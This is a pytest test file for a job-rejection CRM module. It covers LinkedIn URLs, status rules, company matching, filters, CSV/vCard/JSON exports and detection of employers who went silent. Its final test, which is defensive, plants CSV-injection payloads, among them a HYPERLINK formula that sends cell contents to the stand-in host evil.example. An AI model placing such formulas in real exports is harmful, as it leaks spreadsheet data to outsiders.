"""crm (pure): links, statuses, filters, company matching, ghosting, CSV and vCard exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
import vobject

from rejectwatch.crm import records

ROWS = [
    {
        "id": 1,
        "received": "2024-05-02T10:00:00+00:00",
        "company": "Nørdlys",
        "position": "Data Analyst",
        "contact_name": "Ingrid Solberg",
        "contact_title": "Talent Acquisition",
        "contact_address": "ingrid.solberg@nordlys.example",
        "reason": "after_interview",
        "status": "draft saved",
        "subject": "Your application, Data Analyst",
        "message_id": "<hand-1@nordlys.example>",
    },
    {
        "id": 2,
        "received": "2024-06-11T08:30:00+00:00",
        "company": "O'Brien & Co; Partners",
        "position": "",
        "contact_name": "",
        "contact_address": "careers@obrien.example",
        "reason": "unknown",
        "status": "no reply address",
        "subject": "Update",
        "message_id": "<x2@obrien.example>",
    },
]


def test_linkedin_url() -> None:
    assert records.linkedin_url("Ingrid Solberg", "Nørdlys") == (
        "https://www.linkedin.com/search/results/people/?keywords=Ingrid%20Solberg%20N%C3%B8rdlys"
    )
    assert records.linkedin_url("Ann", "A&B").endswith("keywords=Ann%20A%26B")
    assert records.linkedin_url("", "Acme") == ""


def test_status_only_moves_forward() -> None:
    assert records.status_after(records.DRAFT_SAVED, records.REPLY_SENT) == records.REPLY_SENT
    assert records.status_after(records.CONNECTED, records.REPLY_SENT) == records.CONNECTED
    assert records.status_after(records.NO_REPLY_ADDRESS, records.CONNECTED) == records.CONNECTED


def test_company_key() -> None:
    assert records.company_key("Nørdlys AS") == records.company_key("nordlys") == "nordlys"
    assert records.company_key("Acme, Inc.") == records.company_key("ACME")
    assert records.company_key("Quill & Ink") == records.company_key("Quill and Ink")


@pytest.mark.parametrize(
    ("flt", "ids"),
    [
        (records.Filter(), [1, 2]),
        (records.Filter(company="nordlys"), [1]),
        (records.Filter(company="O'BRIEN"), [2]),
        (records.Filter(since=date(2024, 6, 1)), [2]),
        (records.Filter(since=date(2024, 5, 2)), [1, 2]),
        (records.Filter(reason="after_interview"), [1]),
        (records.Filter(company="nordlys", reason="unknown"), []),
    ],
)
def test_filters(flt: records.Filter, ids: list[int]) -> None:
    assert [r["id"] for r in records.filter_rows(ROWS, flt)] == ids


def test_csv_round_trips_through_the_csv_module() -> None:
    parsed = list(csv.DictReader(io.StringIO(records.render(ROWS, "csv"))))
    assert [r["company"] for r in parsed] == ["Nørdlys", "O'Brien & Co; Partners"]
    assert parsed[0]["linkedin"].startswith("https://www.linkedin.com/search/results/people/")
    # No contact name: a search for a recruiter at the company instead.
    assert parsed[1]["linkedin"] == records.linkedin_url("recruiter", "O'Brien & Co; Partners")
    assert set(parsed[0]) == set(records.COLUMNS)


def test_vcard_parses_back_with_vobject() -> None:
    text = records.render(ROWS, "vcard")
    assert "\r\n" in text
    cards = list(vobject.readComponents(text))
    assert len(cards) == 2
    ingrid, obrien = cards
    assert ingrid.version.value == "3.0"
    assert ingrid.fn.value == "Ingrid Solberg"
    assert ingrid.n.value.family == "Solberg"
    assert ingrid.n.value.given == "Ingrid"
    assert ingrid.org.value == ["Nørdlys"]
    assert ingrid.title.value == "Talent Acquisition"
    assert ingrid.email.value == "ingrid.solberg@nordlys.example"
    assert ingrid.url.value == records.linkedin_url("Ingrid Solberg", "Nørdlys")
    assert "Data Analyst" in ingrid.note.value
    assert "after_interview" in ingrid.note.value
    assert obrien.org.value == ["O'Brien & Co; Partners"]  # the ';' survived escaping
    assert obrien.email.value == "careers@obrien.example"
    for line in text.split("\r\n"):
        assert len(line.encode("utf-8")) <= 75


def test_vcard_long_unicode_values_fold_and_parse() -> None:
    row = {**ROWS[0], "position": "Ø" * 120, "contact_address": "z@x.example"}
    (card,) = vobject.readComponents(records.render([row], "vcard"))
    assert "Ø" * 120 in card.note.value


@pytest.mark.parametrize(
    ("name", "family", "given", "prefix"),
    [
        ("Jan van Dijk", "van Dijk", "Jan", ""),
        ("Dr. Priya Shah", "Shah", "Priya", "Dr."),
        ("Shah, Priya", "Shah", "Priya", ""),  # a row written before names were put in order
        ("María José de la Cruz", "de la Cruz", "María José", ""),
        ("Priya", "", "Priya", ""),
    ],
)
def test_vcard_name_parts(name: str, family: str, given: str, prefix: str) -> None:
    row = {**ROWS[0], "contact_name": name}
    (card,) = vobject.readComponents(records.render([row], "vcard"))
    assert (card.n.value.family, card.n.value.given, card.n.value.prefix) == (
        family,
        given,
        prefix,
    )


def test_table_and_json() -> None:
    assert records.render([], "table") == "no rejections recorded yet\n"
    table = records.render(ROWS, "table")
    assert table.splitlines()[0].split() == list(records.TABLE_COLUMNS)
    assert records.render([], "json") == "[]\n"
    parsed = json.loads(records.render(ROWS, "json"))
    assert [list(row) for row in parsed] == [list(records.COLUMNS)] * 2
    assert parsed[0]["company"] == "Nørdlys"
    assert parsed[1]["linkedin"] == records.linkedin_url("recruiter", "O'Brien & Co; Partners")


NOW = datetime(2024, 7, 1, tzinfo=UTC)


def app(company: str, applied: str, last: str = "", domain: str = "") -> dict[str, str]:
    return {
        "company": company,
        "company_key": records.company_key(company),
        "position": "",
        "applied": applied,
        "last_contact": last,
        "sender_domain": domain,
    }


def test_ghosted() -> None:
    apps = [
        app("Silent Ltd", "2024-05-01T00:00:00+00:00"),  # 61 days of silence
        app("Recent", "2024-06-25T00:00:00+00:00"),  # too recent
        app("Nørdlys", "2024-04-01T00:00:00+00:00"),  # answered by a rejection
        app("Talked", "2024-05-01T00:00:00+00:00", last="2024-06-20T00:00:00+00:00"),
        app("Old talk", "2024-04-01T00:00:00+00:00", last="2024-05-01T00:00:00+00:00"),
        app("By domain", "2024-04-01T00:00:00+00:00", domain="obrien.example"),
    ]
    got = records.ghosted(apps, ROWS, now=NOW, days=21)
    assert [(g["company"], g["silent_days"]) for g in got] == [("Silent Ltd", 61), ("Old talk", 61)]


def test_csv_cells_never_start_a_spreadsheet_formula() -> None:
    # A sender controls the subject, the company and the contact's name: in a spreadsheet a
    # cell starting with = + - @ (or a tab / CR) runs as a formula ("CSV injection").
    hostile = {
        **ROWS[0],
        "company": '=HYPERLINK("http://evil.example/?x="&A1,"Acme")',
        "position": "+1+1",
        "contact_name": "@SUM(A1:A9)",
        "subject": "-2+3 your application",
        "reason": "\t=cmd",
        "contact_title": "\r=1",
    }
    parsed = list(csv.DictReader(io.StringIO(records.render([hostile, ROWS[1]], "csv"))))
    for row in parsed:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert parsed[0]["company"] == "'" + hostile["company"]
    assert parsed[0]["position"] == "'+1+1"
    assert parsed[0]["contact_name"] == "'@SUM(A1:A9)"
    # ordinary values are untouched, and the JSON export keeps the text as it was
    assert parsed[1]["company"] == "O'Brien & Co; Partners"
    assert parsed[1]["received"] == "2024-06-11T08:30:00+00:00"
    assert json.loads(records.render([hostile], "json"))[0]["position"] == "+1+1"
